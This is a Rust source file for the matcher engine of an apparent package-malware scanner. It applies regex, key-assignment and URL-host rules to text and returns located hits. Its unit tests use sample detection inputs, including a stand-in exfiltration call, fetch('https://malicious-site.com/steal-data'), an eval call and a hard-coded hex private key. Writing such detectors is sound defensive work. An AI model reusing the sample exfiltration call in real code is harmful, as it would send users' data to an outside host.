//! The matcher engine: applies every registry rule to one variant.
//!
//! Matching is pure and stateless. Hits come out in rule registration
//! order, then leftmost-match order, so identical inputs always produce
//! identical hit sequences. Overlapping hits from different rules are
//! all kept; same-rule hits are deduplicated by span.

use crate::decode::Variant;
use crate::rules::{hosts, CompiledMatcher, Registry, Rule};
use crate::types::{truncate, Hit};
use std::collections::HashSet;

const SNIPPET_CONTEXT: usize = 40;
const SNIPPET_MAX_CHARS: usize = 160;

/// Run every rule against `variant`, producing raw hits for the
/// aggregator. `suppressed` is always false here; the aggregator owns
/// allowlist decisions.
pub fn scan_variant(variant: &Variant, registry: &Registry) -> Vec<Hit> {
    let text = variant.text.as_str();
    let mut hits = Vec::new();
    // Tokenized lazily; most rule sets have few structural rules.
    let mut tokens: Option<Vec<Token>> = None;

    for rule in registry.all() {
        let mut seen_spans: HashSet<(usize, usize)> = HashSet::new();

        match &rule.matcher {
            CompiledMatcher::Pattern(re) => {
                for m in re.find_iter(text) {
                    push_hit(&mut hits, &mut seen_spans, rule, variant, m.start(), m.end());
                }
            }
            CompiledMatcher::KeyAssignment { name, value } => {
                let tokens = tokens.get_or_insert_with(|| tokenize(text));
                for i in 0..tokens.len() {
                    let key_text = match &tokens[i].kind {
                        TokenKind::Ident => &tokens[i].text,
                        TokenKind::Str => &tokens[i].text,
                        _ => continue,
                    };
                    if !name.is_match(key_text) {
                        continue;
                    }
                    let Some(op) = tokens.get(i + 1) else { continue };
                    if !matches!(op.kind, TokenKind::Op('=') | TokenKind::Op(':')) {
                        continue;
                    }
                    let Some(lit) = tokens.get(i + 2) else { continue };
                    if lit.kind != TokenKind::Str || !value.is_match(&lit.text) {
                        continue;
                    }
                    push_hit(
                        &mut hits,
                        &mut seen_spans,
                        rule,
                        variant,
                        tokens[i].start,
                        lit.end,
                    );
                }
            }
            CompiledMatcher::UrlHost(check) => {
                let urls = match check {
                    crate::rules::HostCheck::Typosquat => hosts::find_urls(text),
                    crate::rules::HostCheck::UnlistedOutbound => hosts::find_outbound_calls(text),
                };
                for url in urls {
                    let flagged = match check {
                        crate::rules::HostCheck::Typosquat => {
                            hosts::typosquat_of(&url.host).is_some()
                        }
                        crate::rules::HostCheck::UnlistedOutbound => {
                            !hosts::is_known_host(&url.host)
                        }
                    };
                    if flagged {
                        push_hit(&mut hits, &mut seen_spans, rule, variant, url.start, url.end);
                    }
                }
            }
            // Decode-backed rules are credited by the pipeline when the
            // transform actually fires; nothing to match here.
            CompiledMatcher::Decoded(_) => {}
        }
    }

    hits
}

fn push_hit(
    hits: &mut Vec<Hit>,
    seen_spans: &mut HashSet<(usize, usize)>,
    rule: &Rule,
    variant: &Variant,
    start: usize,
    end: usize,
) {
    if !seen_spans.insert((start, end)) {
        return;
    }
    hits.push(Hit {
        rule_id: rule.id.clone(),
        category: rule.category,
        severity: rule.severity,
        offset: start,
        length: end - start,
        depth: variant.depth,
        snippet: truncate(
            &context_snippet(&variant.text, start, end, SNIPPET_CONTEXT),
            SNIPPET_MAX_CHARS,
        ),
        suppressed: false,
    });
}

/// Get a snippet of content around a match with context (UTF-8 safe).
fn context_snippet(content: &str, start: usize, end: usize, context: usize) -> String {
    let snippet_start = {
        let target = start.saturating_sub(context);
        (0..=target)
            .rev()
            .find(|&i| content.is_char_boundary(i))
            .unwrap_or(0)
    };
    let snippet_end = {
        let target = (end + context).min(content.len());
        (target..=content.len())
            .find(|&i| content.is_char_boundary(i))
            .unwrap_or(content.len())
    };

    let mut snippet = String::new();
    if snippet_start > 0 {
        snippet.push_str("...");
    }
    snippet.push_str(&content[snippet_start..snippet_end]);
    if snippet_end < content.len() {
        snippet.push_str("...");
    }

    snippet.replace('\n', "\\n")
}

#[derive(Debug, Clone, PartialEq)]
enum TokenKind {
    Ident,
    /// String literal; `text` holds the unquoted content.
    Str,
    Num,
    Op(char),
}

#[derive(Debug, Clone)]
struct Token {
    kind: TokenKind,
    start: usize,
    end: usize,
    text: String,
}

/// Split text on identifier / operator / literal boundaries. Deliberately
/// language-agnostic: comments are tokenized like everything else, since
/// payloads hide in them too.
fn tokenize(text: &str) -> Vec<Token> {
    let chars: Vec<(usize, char)> = text.char_indices().collect();
    let n = chars.len();
    // Byte offset just past the char at index j.
    let offset_at = |j: usize| {
        if j < n {
            chars[j].0
        } else {
            text.len()
        }
    };

    let mut tokens = Vec::new();
    let mut i = 0;

    while i < n {
        let (pos, c) = chars[i];

        if c.is_whitespace() {
            i += 1;
        } else if c.is_alphabetic() || c == '_' || c == '$' {
            let start = pos;
            while i < n && (chars[i].1.is_alphanumeric() || chars[i].1 == '_' || chars[i].1 == '$')
            {
                i += 1;
            }
            let end = offset_at(i);
            tokens.push(Token {
                kind: TokenKind::Ident,
                start,
                end,
                text: text[start..end].to_string(),
            });
        } else if c == '\'' || c == '"' || c == '`' {
            let quote = c;
            let start = pos;
            i += 1;
            let content_start = offset_at(i);
            while i < n && chars[i].1 != quote {
                if chars[i].1 == '\\' {
                    i += 2;
                } else {
                    i += 1;
                }
            }
            let content_end = offset_at(i.min(n));
            if i < n {
                i += 1; // closing quote
            }
            let end = offset_at(i.min(n));
            tokens.push(Token {
                kind: TokenKind::Str,
                start,
                end,
                text: text[content_start..content_end].to_string(),
            });
        } else if c.is_ascii_digit() {
            let start = pos;
            while i < n && (chars[i].1.is_ascii_alphanumeric() || chars[i].1 == '.') {
                i += 1;
            }
            let end = offset_at(i);
            tokens.push(Token {
                kind: TokenKind::Num,
                start,
                end,
                text: text[start..end].to_string(),
            });
        } else {
            tokens.push(Token {
                kind: TokenKind::Op(c),
                start: pos,
                end: offset_at(i + 1),
                text: c.to_string(),
            });
            i += 1;
        }
    }

    tokens
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::Registry;

    fn depth0(text: &str) -> Variant {
        Variant {
            text: text.to_string(),
            depth: 0,
            chain: Vec::new(),
        }
    }

    #[test]
    fn test_eval_hit() {
        let registry = Registry::builtin().unwrap();
        let hits = scan_variant(&depth0("eval('console.log(1)');"), &registry);
        assert!(hits.iter().any(|h| h.rule_id == "exec-eval"));
    }

    #[test]
    fn test_hits_in_registration_order_then_offset() {
        let registry = Registry::builtin().unwrap();
        let text = "eval(a); eval(b);";
        let hits = scan_variant(&depth0(text), &registry);
        let eval_hits: Vec<_> = hits.iter().filter(|h| h.rule_id == "exec-eval").collect();
        assert_eq!(eval_hits.len(), 2);
        assert!(eval_hits[0].offset < eval_hits[1].offset);
    }

    #[test]
    fn test_key_assignment_structural() {
        let registry = Registry::builtin().unwrap();
        let hex64 = "a".repeat(64);
        let text = format!("const private_key = \"{}\";", hex64);
        let hits = scan_variant(&depth0(&text), &registry);
        assert!(hits.iter().any(|h| h.rule_id == "key-hex-assignment"));
    }

    #[test]
    fn test_key_assignment_requires_key_like_name() {
        let registry = Registry::builtin().unwrap();
        let hex64 = "a".repeat(64);
        let text = format!("const checksum = \"{}\";", hex64);
        let hits = scan_variant(&depth0(&text), &registry);
        assert!(!hits.iter().any(|h| h.rule_id == "key-hex-assignment"));
    }

    #[test]
    fn test_string_key_assignment() {
        let registry = Registry::builtin().unwrap();
        let hex64 = "0f".repeat(32);
        let text = format!("\"api_key\": \"{}\"", hex64);
        let hits = scan_variant(&depth0(&text), &registry);
        assert!(hits.iter().any(|h| h.rule_id == "key-hex-assignment"));
    }

    #[test]
    fn test_typosquat_url_hit() {
        let registry = Registry::builtin().unwrap();
        let hits = scan_variant(
            &depth0("supportUrl: 'https://npmjs.help/support'"),
            &registry,
        );
        assert!(hits.iter().any(|h| h.rule_id == "net-registry-typosquat"));
    }

    #[test]
    fn test_outbound_call_to_unlisted_host() {
        let registry = Registry::builtin().unwrap();
        let hits = scan_variant(
            &depth0("fetch('https://malicious-site.com/steal-data');"),
            &registry,
        );
        assert!(hits.iter().any(|h| h.rule_id == "net-unlisted-outbound"));
    }

    #[test]
    fn test_outbound_call_to_known_host_passes() {
        let registry = Registry::builtin().unwrap();
        let hits = scan_variant(
            &depth0("fetch('https://registry.npmjs.org/react');"),
            &registry,
        );
        assert!(!hits.iter().any(|h| h.rule_id == "net-unlisted-outbound"));
    }

    #[test]
    fn test_same_rule_duplicate_span_collapses() {
        // wallet-eth-address appears once even though the text repeats
        // the same span via a single match position.
        let registry = Registry::builtin().unwrap();
        let addr = format!("0x{}", "ab".repeat(20));
        let hits = scan_variant(&depth0(&addr), &registry);
        let eth: Vec<_> = hits
            .iter()
            .filter(|h| h.rule_id == "wallet-eth-address")
            .collect();
        assert_eq!(eth.len(), 1);
    }

    #[test]
    fn test_deterministic() {
        let registry = Registry::builtin().unwrap();
        let text = "eval(x); fetch('https://malicious-site.com/a'); atob('aGVsbG8gd29ybGQ=');";
        let a = scan_variant(&depth0(text), &registry);
        let b = scan_variant(&depth0(text), &registry);
        assert_eq!(a, b);
    }

    #[test]
    fn test_tokenize_spans() {
        let toks = tokenize("key = 'value'");
        assert_eq!(toks.len(), 3);
        assert_eq!(toks[0].kind, TokenKind::Ident);
        assert_eq!(toks[0].text, "key");
        assert_eq!(toks[1].kind, TokenKind::Op('='));
        assert_eq!(toks[2].kind, TokenKind::Str);
        assert_eq!(toks[2].text, "value");
    }

    #[test]
    fn test_tokenize_handles_escapes_and_unterminated() {
        let toks = tokenize(r#"a = "he\"llo"#);
        // Unterminated string still yields a token without panicking.
        assert_eq!(toks.last().unwrap().kind, TokenKind::Str);
    }
}
